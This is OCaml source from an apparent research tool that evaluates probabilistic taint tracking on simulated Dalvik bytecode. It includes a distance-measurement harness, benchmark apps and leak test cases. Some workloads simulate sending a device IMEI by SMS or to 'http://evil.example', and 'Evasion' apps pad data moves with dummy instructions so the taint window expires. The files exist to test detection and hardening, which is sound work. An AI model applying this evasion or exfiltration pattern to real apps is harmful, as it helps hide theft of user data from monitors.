module Memory = Pift_machine.Memory
module Tracker = Pift_core.Tracker
module Policy = Pift_core.Policy

type row = {
  mnemonic : string;
  expected : Translate.distance_spec;
  measured : int option;
}

(* A measurement case: a micro-method whose single interesting bytecode
   moves data from a taintable location to a checkable one. *)
type prepared = {
  args : int list;
  taints : unit -> Range.t list;
  check : unit -> Range.t;
}

type case = {
  bc : B.t;
  registers : int;
  ins : int;
  classes : (string * string list) list;
  prefix : B.t list;  (** bytecodes executed before [bc] *)
  suffix : B.t list;  (** bytecodes executed after [bc] (before return) *)
  prepare : Env.t -> Vm.t -> fp:int -> prepared;
}

let slot fp v = Range.of_len (fp + (4 * v)) 4
let slot_wide fp v = Range.of_len (fp + (4 * v)) 8

let simple ?(registers = 6) ?(ins = 1) ?(classes = []) ?(prefix = [])
    ?(suffix = []) bc prepare =
  { bc; registers; ins; classes; prefix; suffix; prepare }

(* Search the minimal NI (at generous NT) that propagates the taint:
   by Algorithm 1 this is the load→store distance of the data flow. *)
let search_limit = 30

let min_ni trace ~taints ~check =
  let target = check () in
  let propagates ni =
    let tracker = Tracker.create ~policy:(Policy.make ~ni ~nt:10 ()) () in
    List.iter (fun r -> Tracker.taint_source tracker ~pid:1 r) (taints ());
    Trace.iter (Tracker.observe tracker) trace;
    Tracker.is_tainted tracker ~pid:1 target
  in
  let rec search ni =
    if ni > search_limit then None
    else if propagates ni then Some ni
    else search (ni + 1)
  in
  search 1

let measure case =
  let body = case.prefix @ [ case.bc ] @ case.suffix @ [ B.Return_void ] in
  let program =
    Program.make ~classes:case.classes ~entry:"test"
      [
        Method.make ~name:"test" ~registers:case.registers ~ins:case.ins body;
        (* identity helper used by the move-result case *)
        Method.make ~name:"id" ~registers:2 ~ins:1 [ B.Return 1 ];
      ]
  in
  let trace = Trace.create () in
  let env = Env.create ~sink:(Trace.sink trace) () in
  let vm = Vm.create env program in
  let fp = Vm.entry_frame_base vm "test" in
  let prepared = case.prepare env vm ~fp in
  (try ignore (Vm.call vm "test" prepared.args)
   with Vm.Thrown _ -> ());
  {
    mnemonic = B.mnemonic case.bc;
    expected = Translate.expected_distance case.bc;
    measured = min_ni trace ~taints:prepared.taints ~check:prepared.check;
  }

(* --- The cases --------------------------------------------------------- *)

(* One argument (v_last) tainted, one destination vreg checked. *)
let vreg_to_vreg ?registers ?prefix ?suffix bc ~src ~dst =
  simple ?registers ?prefix ?suffix bc (fun _env _vm ~fp ->
      {
        args = [ 0 ];
        taints = (fun () -> [ slot fp src ]);
        check = (fun () -> slot fp dst);
      })

let int_array env =
  let arr = Jarray.alloc env.Env.heap Jarray.Words 4 in
  Jarray.set Jarray.Words env.Env.heap arr 1 42;
  arr

let elem_range kind arr =
  Range.of_len (Jarray.elem_addr kind ~arr ~index:1) (Jarray.elem_size kind)

let aget_case bc kind =
  simple ~prefix:[ B.Const4 (1, 1) ] bc (fun env _vm ~fp ->
      let arr =
        match kind with
        | Jarray.Words -> int_array env
        | k ->
            let a = Jarray.alloc env.Env.heap k 4 in
            Jarray.set k env.Env.heap a 1 42;
            a
      in
      {
        args = [ arr ];
        taints = (fun () -> [ elem_range kind arr ]);
        check = (fun () -> slot fp 0);
      })

let aput_case bc kind =
  simple ~ins:2 ~prefix:[ B.Const4 (0, 1) ] bc (fun env _vm ~fp ->
      let arr = Jarray.alloc env.Env.heap kind 4 in
      let arr_holder = ref arr in
      {
        args = [ arr; 7 ];
        taints = (fun () -> [ slot fp 5 ]);
        check = (fun () -> elem_range kind !arr_holder);
      })

let holder_classes = [ ("T", [ "f"; "g" ]) ]

let cases : case list =
  [
    (* arguments live in the last [ins] registers: with 6 registers and
       ins=1 the argument is v5; with ins=2 they are v4, v5. *)
    vreg_to_vreg (B.Move (0, 5)) ~src:5 ~dst:0;
    vreg_to_vreg (B.Move_from16 (0, 5)) ~src:5 ~dst:0;
    vreg_to_vreg (B.Move_object (0, 5)) ~src:5 ~dst:0;
    vreg_to_vreg (B.Move_object_from16 (0, 5)) ~src:5 ~dst:0;
    simple ~registers:8 ~ins:2 (B.Move_wide (0, 6)) (fun _env _vm ~fp ->
        {
          args = [ 11; 22 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple
      ~prefix:[ B.Invoke (B.Static, "id", [ 5 ]) ]
      (B.Move_result 0)
      (fun _env _vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> slot fp 0);
        });
    simple
      ~prefix:[ B.Invoke (B.Static, "id", [ 5 ]) ]
      (B.Move_result_object 0)
      (fun _env _vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> slot fp 0);
        });
    simple (B.Return 5) (fun env _vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> Tcb.retval_range ~pid:(Env.pid env));
        });
    simple (B.Return_object 5) (fun env _vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> Tcb.retval_range ~pid:(Env.pid env));
        });
    simple ~registers:8 ~ins:2 (B.Return_wide 6) (fun env _vm ~fp ->
        {
          args = [ 11; 22 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check =
            (fun () ->
              Range.of_len
                (Tcb.base ~pid:(Env.pid env) + Tcb.retval_offset)
                8);
        });
    (* throw: the (reference) payload flows to the thread's pending slot *)
    {
      bc = B.Throw 5;
      registers = 6;
      ins = 1;
      classes = [];
      prefix = [];
      suffix = [];
      prepare =
        (fun env _vm ~fp ->
          {
            args = [ 9 ];
            taints = (fun () -> [ slot fp 5 ]);
            check =
              (fun () ->
                Range.of_len
                  (Tcb.base ~pid:(Env.pid env) + Tcb.exception_offset)
                  4);
          });
    };
    aget_case (B.Aget (0, 5, 1)) Jarray.Words;
    aget_case (B.Aget_char (0, 5, 1)) Jarray.Chars;
    aget_case (B.Aget_byte (0, 5, 1)) Jarray.Bytes;
    aget_case (B.Aget_object (0, 5, 1)) Jarray.Words;
    aput_case (B.Aput (5, 4, 0)) Jarray.Words;
    aput_case (B.Aput_char (5, 4, 0)) Jarray.Chars;
    aput_case (B.Aput_byte (5, 4, 0)) Jarray.Bytes;
    (* aput-object: the stored value must be an object (type check) *)
    simple ~ins:2 ~prefix:[ B.Const4 (0, 1) ] (B.Aput_object (5, 4, 0))
      (fun env _vm ~fp ->
        let arr = Jarray.alloc env.Env.heap Jarray.Words 4 in
        let str = Jstring.alloc env.Env.heap "x" in
        {
          args = [ arr; str ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> elem_range Jarray.Words arr);
        });
    simple ~classes:holder_classes (B.Iget (0, 5, "f"))
      (fun env _vm ~fp ->
        let obj = Heap.new_object env.Env.heap ~class_name:"T" ~field_count:2 in
        Memory.write_u32 (Heap.memory env.Env.heap)
          (Heap.field_addr ~obj ~index:0)
          5;
        {
          args = [ obj ];
          taints =
            (fun () -> [ Range.of_len (Heap.field_addr ~obj ~index:0) 4 ]);
          check = (fun () -> slot fp 0);
        });
    simple ~classes:holder_classes (B.Iget_object (0, 5, "f"))
      (fun env _vm ~fp ->
        let obj = Heap.new_object env.Env.heap ~class_name:"T" ~field_count:2 in
        {
          args = [ obj ];
          taints =
            (fun () -> [ Range.of_len (Heap.field_addr ~obj ~index:0) 4 ]);
          check = (fun () -> slot fp 0);
        });
    simple ~classes:holder_classes (B.Iget_wide (0, 5, "f"))
      (fun env _vm ~fp ->
        let obj = Heap.new_object env.Env.heap ~class_name:"T" ~field_count:2 in
        {
          args = [ obj ];
          taints =
            (fun () -> [ Range.of_len (Heap.field_addr ~obj ~index:0) 8 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple ~ins:2 ~classes:holder_classes (B.Iput (5, 4, "f"))
      (fun env _vm ~fp ->
        let obj = Heap.new_object env.Env.heap ~class_name:"T" ~field_count:2 in
        {
          args = [ obj; 7 ];
          taints = (fun () -> [ slot fp 5 ]);
          check =
            (fun () -> Range.of_len (Heap.field_addr ~obj ~index:0) 4);
        });
    simple ~ins:2 ~classes:holder_classes (B.Iput_object (5, 4, "f"))
      (fun env _vm ~fp ->
        let obj = Heap.new_object env.Env.heap ~class_name:"T" ~field_count:2 in
        {
          args = [ obj; 7 ];
          taints = (fun () -> [ slot fp 5 ]);
          check =
            (fun () -> Range.of_len (Heap.field_addr ~obj ~index:0) 4);
        });
    simple ~ins:0 (B.Sget (0, "S.x")) (fun _env vm ~fp ->
        {
          args = [];
          taints = (fun () -> [ Range.of_len (Vm.static_slot vm "S.x") 4 ]);
          check = (fun () -> slot fp 0);
        });
    simple ~ins:0 (B.Sget_object (0, "S.x")) (fun _env vm ~fp ->
        {
          args = [];
          taints = (fun () -> [ Range.of_len (Vm.static_slot vm "S.x") 4 ]);
          check = (fun () -> slot fp 0);
        });
    simple (B.Sput (5, "S.y")) (fun _env vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> Range.of_len (Vm.static_slot vm "S.y") 4);
        });
    simple (B.Sput_object (5, "S.y")) (fun _env vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> Range.of_len (Vm.static_slot vm "S.y") 4);
        });
    simple ~ins:2 (B.Binop (B.Add, 0, 4, 5)) (fun _env _vm ~fp ->
        {
          args = [ 3; 4 ];
          taints = (fun () -> [ slot fp 4 ]);
          check = (fun () -> slot fp 0);
        });
    (* 2addr: taint the in-place operand; the appended move re-exports it,
       so the minimal window is the 2addr store distance (5). *)
    simple ~ins:2 ~suffix:[ B.Move (0, 4) ] (B.Binop_2addr (B.Mul, 4, 5))
      (fun _env _vm ~fp ->
        {
          args = [ 3; 4 ];
          taints = (fun () -> [ slot fp 4 ]);
          check = (fun () -> slot fp 0);
        });
    simple (B.Binop_lit8 (B.Add, 0, 5, 7)) (fun _env _vm ~fp ->
        {
          args = [ 3 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> slot fp 0);
        });
    simple ~ins:2 (B.Binop (B.Div, 0, 4, 5)) (fun _env _vm ~fp ->
        {
          args = [ 100; 7 ];
          taints = (fun () -> [ slot fp 4 ]);
          check = (fun () -> slot fp 0);
        });
    vreg_to_vreg (B.Neg_int (0, 5)) ~src:5 ~dst:0;
    vreg_to_vreg (B.Int_to_char (0, 5)) ~src:5 ~dst:0;
    vreg_to_vreg (B.Int_to_byte (0, 5)) ~src:5 ~dst:0;
    simple (B.Int_to_long (0, 5)) (fun _env _vm ~fp ->
        {
          args = [ 9 ];
          taints = (fun () -> [ slot fp 5 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple ~registers:8 ~ins:2 (B.Long_to_int (0, 6)) (fun _env _vm ~fp ->
        {
          args = [ 11; 22 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot fp 0);
        });
    simple ~registers:10 ~ins:4 (B.Add_long (0, 6, 8)) (fun _env _vm ~fp ->
        {
          args = [ 1; 2; 3; 4 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple ~registers:10 ~ins:4 (B.Sub_long (0, 6, 8)) (fun _env _vm ~fp ->
        {
          args = [ 1; 2; 3; 4 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple ~registers:10 ~ins:4 (B.Mul_long (0, 6, 8)) (fun _env _vm ~fp ->
        {
          args = [ 1; 2; 3; 4 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple ~registers:10 ~ins:3 (B.Shr_long (0, 6, 8)) (fun _env _vm ~fp ->
        {
          args = [ 1; 2; 3 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot_wide fp 0);
        });
    simple ~registers:10 ~ins:4 (B.Cmp_long (0, 6, 8)) (fun _env _vm ~fp ->
        {
          args = [ 1; 2; 3; 4 ];
          taints = (fun () -> [ slot_wide fp 6 ]);
          check = (fun () -> slot fp 0);
        });
    (* array-length moves the header word, so taint the header *)
    simple (B.Array_length (0, 5)) (fun env _vm ~fp ->
        let arr = Jarray.alloc env.Env.heap Jarray.Words 4 in
        {
          args = [ arr ];
          taints = (fun () -> [ Range.of_len (arr + 4) 4 ]);
          check = (fun () -> slot fp 0);
        });
  ]

let measure_all () = List.map measure cases

let consistent row =
  match (row.expected, row.measured) with
  | Translate.Fixed d, Some m -> m = d
  | Translate.Approx (lo, hi), Some m -> lo <= m && m <= hi
  | Translate.Unknown, None -> true
  | Translate.Unknown, Some m -> m > 13
  | Translate.No_flow, None -> true
  | Translate.Fixed _, None | Translate.Approx _, None
  | Translate.No_flow, Some _ ->
      false

let pp_spec ppf = function
  | Translate.Fixed d -> Format.fprintf ppf "%d" d
  | Translate.Approx (lo, hi) -> Format.fprintf ppf "%d-%d" lo hi
  | Translate.Unknown -> Format.pp_print_string ppf "unknown"
  | Translate.No_flow -> Format.pp_print_string ppf "-"

let render rows ppf () =
  Format.fprintf ppf
    "@[<v>== Table 1 — native load & store distances within Dalvik \
     bytecodes ==@,";
  Format.fprintf ppf "%-22s %10s %10s %6s@," "bytecode" "expected" "measured"
    "ok";
  let sorted =
    List.sort
      (fun a b ->
        compare
          (Option.value ~default:max_int a.measured)
          (Option.value ~default:max_int b.measured))
      rows
  in
  List.iter
    (fun r ->
      Format.fprintf ppf "%-22s %10s %10s %6s@," r.mnemonic
        (Format.asprintf "%a" pp_spec r.expected)
        (match r.measured with
        | Some m -> string_of_int m
        | None -> "unknown")
        (if consistent r then "yes" else "NO"))
    sorted;
  (* Grouped summary in the shape of the paper's table *)
  let groups = Hashtbl.create 16 in
  List.iter
    (fun r ->
      let key =
        match r.measured with
        | Some d when d <= 8 -> string_of_int d
        | Some _ -> "9-12"
        | None -> "unknown"
      in
      let cur = Option.value ~default:[] (Hashtbl.find_opt groups key) in
      Hashtbl.replace groups key (r.mnemonic :: cur))
    rows;
  Format.fprintf ppf "@,%-10s %5s  %s@," "distance" "count" "example bytecodes";
  let keys =
    List.sort_uniq compare
      (Hashtbl.fold (fun k _ acc -> k :: acc) groups [])
  in
  List.iter
    (fun key ->
      let mnemonics = Hashtbl.find groups key in
      Format.fprintf ppf "%-10s %5d  %s@," key (List.length mnemonics)
        (String.concat ", "
           (List.filteri (fun i _ -> i < 4) (List.rev mnemonics))))
    keys;
  Format.fprintf ppf "@]@."
