lib/eval/explain.mli: Format Pift_core Pift_util Recorded
