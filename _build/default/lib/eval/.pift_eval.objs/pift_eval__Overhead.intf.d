lib/eval/overhead.mli: Format Recorded
