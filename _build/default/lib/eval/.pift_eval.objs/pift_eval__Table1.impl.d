lib/eval/table1.ml: Format Hashtbl List Option Pift_core Pift_dalvik Pift_machine Pift_runtime Pift_trace Pift_util String
