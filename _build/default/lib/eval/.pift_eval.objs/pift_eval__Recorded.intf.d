lib/eval/recorded.mli: Pift_core Pift_dalvik Pift_trace Pift_util Pift_workloads
