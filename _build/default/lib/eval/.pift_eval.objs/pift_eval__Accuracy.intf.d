lib/eval/accuracy.mli: Format Pift_core Pift_workloads
