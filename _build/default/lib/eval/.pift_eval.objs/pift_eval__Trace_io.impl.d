lib/eval/trace_io.ml: Array Fun List Pift_arm Pift_trace Pift_util Printf Recorded String
