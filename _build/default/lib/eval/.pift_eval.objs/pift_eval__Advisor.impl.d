lib/eval/advisor.ml: Format List Pift_core Pift_workloads Recorded String
