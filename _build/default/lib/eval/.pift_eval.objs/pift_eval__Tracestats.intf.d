lib/eval/tracestats.mli: Format Pift_util Recorded
