lib/eval/explain.ml: Array Format Hashtbl List Pift_core Pift_trace Pift_util Recorded
