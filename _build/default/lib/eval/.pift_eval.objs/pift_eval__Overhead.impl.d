lib/eval/overhead.ml: Format Int List Pift_core Pift_util Recorded
