lib/eval/advisor.mli: Format Pift_core Pift_workloads Recorded
