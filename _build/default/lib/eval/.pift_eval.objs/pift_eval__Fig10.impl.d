lib/eval/fig10.ml: Format List Pift_dalvik Pift_workloads
