lib/eval/recorded.ml: Array List Pift_baseline Pift_core Pift_dalvik Pift_machine Pift_runtime Pift_trace Pift_util Pift_workloads String
