lib/eval/tracestats.ml: Format List Pift_trace Pift_util Printf Recorded
