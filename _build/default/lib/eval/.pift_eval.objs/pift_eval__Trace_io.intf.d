lib/eval/trace_io.mli: Recorded
