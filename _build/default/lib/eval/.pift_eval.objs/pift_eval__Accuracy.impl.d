lib/eval/accuracy.ml: Hashtbl List Pift_core Pift_util Pift_workloads Printf Recorded
