lib/eval/table1.mli: Format Pift_dalvik
