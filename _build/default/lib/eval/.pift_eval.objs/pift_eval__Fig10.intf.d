lib/eval/fig10.mli: Format Pift_dalvik
