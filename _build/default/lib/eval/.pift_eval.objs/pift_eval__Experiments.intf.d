lib/eval/experiments.mli: Format Recorded
