module B = Pift_dalvik.Bytecode
module Asm = Pift_arm.Asm
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Scrubber = Pift_arm.Scrubber
module Cpu = Pift_machine.Cpu
module Env = Pift_runtime.Env
module Jstring = Pift_runtime.Jstring
module Jarray = Pift_runtime.Jarray
open Dsl

let dummy_block_length = 24

(* One character: ldrh, a dummy computation block on a scratch register,
   strh.  Raw load→store distance: dummy_block_length + 1.  With
   [live_dummy] the block's result is stored afterwards, so dead-code
   elimination alone cannot remove it — only store relocation helps. *)
let evasive_char_move ~harden ~live_dummy cpu ~dst ~src ~acc =
  let a = Asm.create () in
  Asm.emit a (Insn.Ldr (Insn.Half, Reg.R6, Insn.Offset (Reg.R1, Insn.Imm 0)));
  for _ = 1 to dummy_block_length do
    Asm.emit a (Insn.Alu (Insn.Add, false, Reg.R10, Reg.R10, Insn.Imm 1))
  done;
  Asm.emit a (Insn.Str (Insn.Half, Reg.R6, Insn.Offset (Reg.R0, Insn.Imm 0)));
  if live_dummy then
    Asm.emit a (Insn.Str (Insn.Word, Reg.R10, Insn.Offset (Reg.R2, Insn.Imm 0)));
  Asm.ret a;
  let frag = Asm.assemble a in
  let frag =
    if harden then Scrubber.relocate_stores (Scrubber.scrub frag) else frag
  in
  Cpu.set cpu Reg.R0 dst;
  Cpu.set cpu Reg.R1 src;
  Cpu.set cpu Reg.R2 acc;
  Cpu.run cpu frag

(* "JNI" exfiltration copy: string chars into a char array, one evasive
   move per character. *)
let exfil_copy ~harden ~live_dummy : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let s = args.(0) and arr = args.(1) in
  let n = min (Jstring.length env.Env.heap s) (Jarray.length env.Env.heap arr) in
  let src = Jarray.data_addr (Jstring.char_array env.Env.heap s) in
  let dst = Jarray.data_addr arr in
  let acc = Pift_runtime.Heap.alloc env.Env.heap 4 in
  for i = 0 to n - 1 do
    evasive_char_move ~harden ~live_dummy env.Env.cpu ~dst:(dst + (2 * i))
      ~src:(src + (2 * i)) ~acc
  done

let make ~name ~harden ~live_dummy =
  App.make ~name ~category:"Evasion" ~leaky:true ~subset48:false
    ~natives:[ ("Jni.exfilCopy", exfil_copy ~harden ~live_dummy) ]
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                ]
               (* let any open window expire before the JNI copy *)
               @ window_gap 8
               @ [
                   I (call "Jni.exfilCopy" [ 0; 2 ]);
                   I (call "String.fromChars" [ 2 ]);
                   I (B.Move_result_object 3);
                   I (lit 4 "5554");
                   I (send_sms ~dest:4 ~msg:3);
                   I B.Return_void;
                 ]));
        ])

let attack = make ~name:"Evasion1" ~harden:false ~live_dummy:false
let hardened = make ~name:"Evasion1Hardened" ~harden:true ~live_dummy:false

(* The stronger attack makes the dummy block live (its accumulator is
   stored), defeating plain dead-code elimination; store relocation still
   collapses the load->store distance. *)
let attack_live = make ~name:"Evasion2" ~harden:false ~live_dummy:true
let hardened_live = make ~name:"Evasion2Hardened" ~harden:true ~live_dummy:true
let all = [ attack; hardened; attack_live; hardened_live ]
