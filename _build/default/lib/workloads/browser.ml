module B = Pift_dalvik.Bytecode
open Dsl

(* One "page": a markup string is scanned character by character
   (bytecode loop with aget-char and a switch on tag boundaries), text
   runs are appended to the rendered buffer, and a DOM-ish node object is
   allocated per tag with its text length stored in a field. *)
let page_markup =
  "<html><head><title>news</title></head><body><h1>headline</h1><p>the \
   quick brown fox jumps over the lazy dog</p><p>second paragraph with \
   more text to lay out</p></body></html>"

let sized ~pages =
  App.make ~name:"Browser" ~category:"Benchmark" ~leaky:false
    ~subset48:false (fun () ->
      prog
        ~classes:[ ("Node", [ "text_len"; "depth" ]) ]
        [
          (* render(markup): returns the rendered string *)
          meth ~name:"render" ~registers:14 ~ins:1
            (body
               [
                 (* v13 = markup *)
                 I (call "String.length" [ 13 ]);
                 I (B.Move_result 0);
                 I (B.New_array (1, 0, "char[]"));
                 I (call "String.getChars" [ 13; 1 ]);
                 Is (sb_new ~dst:2);
                 I (B.Const4 (3, 0)) (* i *);
                 I (B.Const4 (4, 0)) (* in_tag *);
                 I (B.Const4 (7, 0)) (* text_len *);
                 L "scan";
                 If_l (B.Ge, 3, 0, "done");
                 I (B.Aget_char (5, 1, 3));
                 (* '<' opens a tag, '>' closes it *)
                 I (B.Const16 (6, 60));
                 If_l (B.Eq, 5, 6, "open_tag");
                 I (B.Const16 (6, 62));
                 If_l (B.Eq, 5, 6, "close_tag");
                 Ifz_l (B.Ne, 4, "next");
                 (* text outside tags: render it and count it *)
                 I (call "StringBuilder.appendChar" [ 2; 5 ]);
                 I (B.Move_result_object 2);
                 I (B.Binop_lit8 (B.Add, 7, 7, 1));
                 Goto_l "next";
                 L "open_tag";
                 I (B.Const4 (4, 1));
                 (* a DOM node records the text run so far *)
                 I (B.New_instance (8, "Node"));
                 I (B.Iput (7, 8, "text_len"));
                 I (B.Iput (3, 8, "depth"));
                 I (B.Const4 (7, 0));
                 Goto_l "next";
                 L "close_tag";
                 I (B.Const4 (4, 0));
                 Goto_l "next";
                 L "next";
                 I (B.Binop_lit8 (B.Add, 3, 3, 1));
                 Goto_l "scan";
                 L "done";
                 I (call "StringBuilder.toString" [ 2 ]);
                 I (B.Move_result_object 9);
                 I (B.Return_object 9);
               ]);
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               [
                 I (B.Const4 (0, 0));
                 I (B.Const16 (1, pages));
                 I (lit 2 page_markup);
                 L "pages";
                 If_l (B.Ge, 0, 1, "quit");
                 I (B.Invoke (B.Static, "render", [ 2 ]));
                 I (B.Move_result_object 3);
                 (* status line *)
                 I (call "String.length" [ 3 ]);
                 I (B.Move_result 4);
                 Is (int_to_string ~dst:5 4);
                 I (lit 6 "render");
                 I (log ~tag:6 ~msg:5);
                 I (B.Binop_lit8 (B.Add, 0, 0, 1));
                 Goto_l "pages";
                 L "quit";
                 I B.Return_void;
               ]);
        ])

let app = sized ~pages:6
