(* Array and list cases: element-sensitivity controls and copies. *)

module B = Pift_dalvik.Bytecode
open Dsl

let app = App.make

(* Taint parked at index 1; index 0 is sent. *)
let array_access1 =
  app ~name:"ArrayAccess1" ~category:"ArraysAndLists" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:9 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 2); B.New_array (2, 1, "object[]") ]
            @ [ B.Const4 (3, 1); B.Aput_object (0, 2, 3) ]
            @ [ lit 4 "benign"; B.Const4 (5, 0); B.Aput_object (4, 2, 5) ]
            @ [ B.Aget_object (6, 2, 5) ]
            @ [ lit 7 "5554"; send_sms ~dest:7 ~msg:6; B.Return_void ]);
        ])

(* The tainted element is fetched through a computed index. *)
let array_access2 =
  app ~name:"ArrayAccess2" ~category:"ArraysAndLists" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 2); B.New_array (2, 1, "object[]") ]
            @ [ B.Const4 (3, 1); B.Aput_object (0, 2, 3) ]
            @ [ lit 4 "benign"; B.Const4 (5, 0); B.Aput_object (4, 2, 5) ]
            (* index = 3 - 2 = 1 *)
            @ [ B.Const4 (6, 3); B.Binop_lit8 (B.Sub, 6, 6, 2) ]
            @ [ B.Aget_object (7, 2, 6) ]
            @ [ lit 8 "5554"; send_sms ~dest:8 ~msg:7; B.Return_void ]);
        ])

(* Char data moved by System.arraycopy. *)
let array_copy1 =
  app ~name:"ArrayCopy1" ~category:"ArraysAndLists" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (imei 0
            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
            @ [ B.New_array (2, 1, "char[]"); B.New_array (3, 1, "char[]") ]
            @ [ call "String.getChars" [ 0; 2 ] ]
            @ [ B.Const4 (4, 0) ]
            @ [ call "System.arraycopy" [ 2; 4; 3; 4; 1 ] ]
            @ [ call "String.fromChars" [ 3 ]; B.Move_result_object 5 ]
            @ [ lit 6 "http://evil.example"; http ~url:6 ~body:5;
                B.Return_void ]);
        ])

(* A two-slot "list": the clean head is sent. *)
let list_access1 =
  app ~name:"ListAccess1" ~category:"ArraysAndLists" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:9 ~ins:0
            ([ lit 0 "first"; B.Const4 (1, 2);
               B.New_array (2, 1, "object[]") ]
            @ [ B.Const4 (3, 0); B.Aput_object (0, 2, 3) ]
            @ serial 4
            @ [ B.Const4 (5, 1); B.Aput_object (4, 2, 5) ]
            @ [ B.Aget_object (6, 2, 3) ]
            @ [ lit 7 "TAG"; log ~tag:7 ~msg:6; B.Return_void ]);
        ])

(* The tainted tail is sent. *)
let list_access2 =
  app ~name:"ListAccess2" ~category:"ArraysAndLists" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:9 ~ins:0
            ([ lit 0 "first"; B.Const4 (1, 2);
               B.New_array (2, 1, "object[]") ]
            @ [ B.Const4 (3, 0); B.Aput_object (0, 2, 3) ]
            @ serial 4
            @ [ B.Const4 (5, 1); B.Aput_object (4, 2, 5) ]
            @ [ B.Aget_object (6, 2, 5) ]
            @ [ lit 7 "TAG"; log ~tag:7 ~msg:6; B.Return_void ]);
        ])

(* Raw bytes over an output stream.  Outside the subset. *)
let device_id_bytes1 =
  app ~name:"DeviceIdBytes1" ~category:"AndroidSpecific" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:3 ~ins:0
            (imei 0
            @ [ call "String.getBytes" [ 0 ]; B.Move_result_object 1 ]
            @ [ call "OutputStream.write" [ 1 ]; B.Return_void ]);
        ])

let all : App.t list =
  [
    array_access1;
    array_access2;
    array_copy1;
    list_access1;
    list_access2;
    device_id_bytes1;
  ]
