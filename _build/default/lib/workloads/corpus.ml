module B = Pift_dalvik.Bytecode
module Method = Pift_dalvik.Method
module Program = Pift_dalvik.Program
module Rng = Pift_util.Rng

(* Opcode templates.  [last] is the method's final index (a return), used
   as the target of every branch so generated bodies are always valid. *)
let template rng ~last name =
  let v () = Rng.int rng 8 in
  match name with
  | "invoke-virtual" -> B.Invoke (B.Virtual, "Lib.m", [ v () ])
  | "invoke-virtual/range" -> B.Invoke_range (B.Virtual, "Lib.m", [ v () ])
  | "invoke-static" -> B.Invoke (B.Static, "Lib.s", [ v () ])
  | "invoke-direct" -> B.Invoke (B.Direct, "Lib.<init>", [ v () ])
  | "invoke-interface" -> B.Invoke (B.Interface, "Lib.i", [ v () ])
  | "move-result-object" -> B.Move_result_object (v ())
  | "move-result" -> B.Move_result (v ())
  | "move-exception" -> B.Move_exception (v ())
  | "iget-object" -> B.Iget_object (v (), v (), "f0")
  | "iget" -> B.Iget (v (), v (), "f1")
  | "iget-wide" -> B.Iget_wide (v (), v (), "f2")
  | "iput-object" -> B.Iput_object (v (), v (), "f0")
  | "iput" -> B.Iput (v (), v (), "f1")
  | "sget-object" -> B.Sget_object (v (), "Lib.g0")
  | "sget" -> B.Sget (v (), "Lib.g1")
  | "sput-object" -> B.Sput_object (v (), "Lib.g0")
  | "sput" -> B.Sput (v (), "Lib.g1")
  | "const/4" -> B.Const4 (v (), Rng.int rng 8)
  | "const/16" -> B.Const16 (v (), Rng.int rng 1000)
  | "const" -> B.Const (v (), Rng.int rng 100000)
  | "const-string" -> B.Const_string (v (), "s")
  | "return-void" -> B.Nop (* bodies end with one real return *)
  | "return" -> B.Nop
  | "return-object" -> B.Nop
  | "goto" -> B.Goto last
  | "if-eqz" -> B.If_testz (B.Eq, v (), last)
  | "if-nez" -> B.If_testz (B.Ne, v (), last)
  | "if-lt" -> B.If_test (B.Lt, v (), v (), last)
  | "packed-switch" -> B.Packed_switch (v (), [ (0, last) ], last)
  | "aput-object" -> B.Aput_object (v (), v (), v ())
  | "aget-object" -> B.Aget_object (v (), v (), v ())
  | "aget" -> B.Aget (v (), v (), v ())
  | "aput" -> B.Aput (v (), v (), v ())
  | "aget-char" -> B.Aget_char (v (), v (), v ())
  | "aput-char" -> B.Aput_char (v (), v (), v ())
  | "new-instance" -> B.New_instance (v (), "Lib")
  | "new-array" -> B.New_array (v (), v (), "int[]")
  | "array-length" -> B.Array_length (v (), v ())
  | "check-cast" -> B.Check_cast (v (), "Lib")
  | "instance-of" -> B.Instance_of (v (), v (), "Lib")
  | "move" -> B.Move (v (), v ())
  | "move/from16" -> B.Move_from16 (v (), v ())
  | "move-object" -> B.Move_object (v (), v ())
  | "move-object/from16" -> B.Move_object_from16 (v (), v ())
  | "move-wide" -> B.Move_wide (v (), v ())
  | "throw" -> B.Throw (v ())
